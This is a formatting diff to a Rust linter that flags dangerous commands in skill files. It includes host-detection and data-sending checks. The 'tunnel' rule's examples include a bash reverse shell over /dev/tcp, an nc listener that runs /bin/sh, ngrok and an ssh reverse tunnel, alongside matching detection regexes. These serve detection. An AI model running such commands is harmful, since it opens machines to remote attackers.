@@ -7,8 +7,8 @@ use regex::Regex;
 
 use super::Matcher::{Function, Patterns};
 use super::{Level, Rule};
-use crate::skill::lint::added::Added;
 use crate::skill::lint::Context;
+use crate::skill::lint::added::Added;
 
 pub(super) const RULES: &[Rule] = &[
     Rule {
@@ -56,8 +56,17 @@ pub(super) const RULES: &[Rule] = &[
         name: "tunnel",
         level: Level::Danger,
         explanation: "opens this machine to others",
-        examples: &["ngrok http 3000", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "nc -lvp 4444 -e /bin/sh", "ssh -R 80:localhost:3000 serveo.net"],
-        counter_examples: &["ssh host uptime", "python3 -m http.server --bind 127.0.0.1", "Listen on port 3000."],
+        examples: &[
+            "ngrok http 3000",
+            "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
+            "nc -lvp 4444 -e /bin/sh",
+            "ssh -R 80:localhost:3000 serveo.net",
+        ],
+        counter_examples: &[
+            "ssh host uptime",
+            "python3 -m http.server --bind 127.0.0.1",
+            "Listen on port 3000.",
+        ],
         matcher: Patterns(&[
             r"\b(?:ngrok|localtunnel|cloudflared\s+tunnel)\s+\S",
             r"/dev/tcp/\S",
@@ -94,35 +103,58 @@ fn is_harmless(host: &str) -> bool {
     let local = ["localhost", "127.0.0.1", "0.0.0.0", "[::1]", "::1"];
     local.contains(&host.as_str())
         || host.ends_with(".localhost")
-        || ["example.com", "example.org", "example.net"].iter().any(|name| {
-            host.strip_suffix(name).is_some_and(|rest| rest.is_empty() || rest.ends_with('.'))
-        })
+        || ["example.com", "example.org", "example.net"]
+            .iter()
+            .any(|name| {
+                host.strip_suffix(name)
+                    .is_some_and(|rest| rest.is_empty() || rest.ends_with('.'))
+            })
         || host.starts_with(['$', '<', '{', '%'])
 }
 
 fn hosts(text: &str) -> Vec<(usize, String)> {
-    let Some(pattern) = HOSTS.as_ref() else { return Vec::new() };
+    let Some(pattern) = HOSTS.as_ref() else {
+        return Vec::new();
+    };
     pattern
         .captures_iter(text)
         .filter_map(|captures| {
             let ip = captures.name("ip");
-            let found = captures.name("url").or_else(|| captures.name("mail")).or(ip).or_else(|| captures.name("name"))?;
+            let found = captures
+                .name("url")
+                .or_else(|| captures.name("mail"))
+                .or(ip)
+                .or_else(|| captures.name("name"))?;
             // Four numbers may be a version.
-            let octets = found.as_str().split('.').all(|part| part.parse::<u8>().is_ok());
+            let octets = found
+                .as_str()
+                .split('.')
+                .all(|part| part.parse::<u8>().is_ok());
             let version = ends_in_version(&text[..found.start()]);
-            (ip.is_none() || octets && !version).then(|| (found.start(), found.as_str().to_ascii_lowercase()))
+            (ip.is_none() || octets && !version)
+                .then(|| (found.start(), found.as_str().to_ascii_lowercase()))
         })
         .filter(|(_, host)| !is_harmless(host))
         .collect()
 }
 
 fn ends_in_version(before: &str) -> bool {
-    let word = before.trim_end().rsplit(char::is_whitespace).next().unwrap_or_default();
-    matches!(word.to_ascii_lowercase().as_str(), "version" | "release" | "v")
+    let word = before
+        .trim_end()
+        .rsplit(char::is_whitespace)
+        .next()
+        .unwrap_or_default();
+    matches!(
+        word.to_ascii_lowercase().as_str(),
+        "version" | "release" | "v"
+    )
 }
 
 fn new_hosts(added: &Added<'_>, _: &Context<'_>) -> Vec<(Option<usize>, String)> {
-    let mut known: BTreeSet<String> = hosts(added.base).into_iter().map(|(_, host)| host).collect();
+    let mut known: BTreeSet<String> = hosts(added.base)
+        .into_iter()
+        .map(|(_, host)| host)
+        .collect();
     hosts(added.text())
         .into_iter()
         .filter(|(_, host)| known.insert(host.clone()))
@@ -134,11 +166,19 @@ fn new_hosts(added: &Added<'_>, _: &Context<'_>) -> Vec<(Option<usize>, String)>
 }
 
 fn sends_data(added: &Added<'_>, _: &Context<'_>) -> Vec<(Option<usize>, String)> {
-    let Some(pattern) = SENDS.as_ref() else { return Vec::new() };
+    let Some(pattern) = SENDS.as_ref() else {
+        return Vec::new();
+    };
     let mut places: Vec<(Option<usize>, String)> = Vec::new();
-    for found in pattern.find_iter(added.text()).take(4 * super::super::MAX_FINDINGS) {
+    for found in pattern
+        .find_iter(added.text())
+        .take(4 * super::super::MAX_FINDINGS)
+    {
         let text = found.as_str().to_ascii_lowercase();
-        let stays = ["localhost", "127.0.0.1", "[::1]"].iter().any(|host| text.contains(host)) && hosts(&text).is_empty();
+        let stays = ["localhost", "127.0.0.1", "[::1]"]
+            .iter()
+            .any(|host| text.contains(host))
+            && hosts(&text).is_empty();
         let (line, words) = added.line_at(found.start());
         if !stays && places.last().is_none_or(|(last, _)| *last != Some(line)) {
             places.push((Some(line), words.to_owned()));
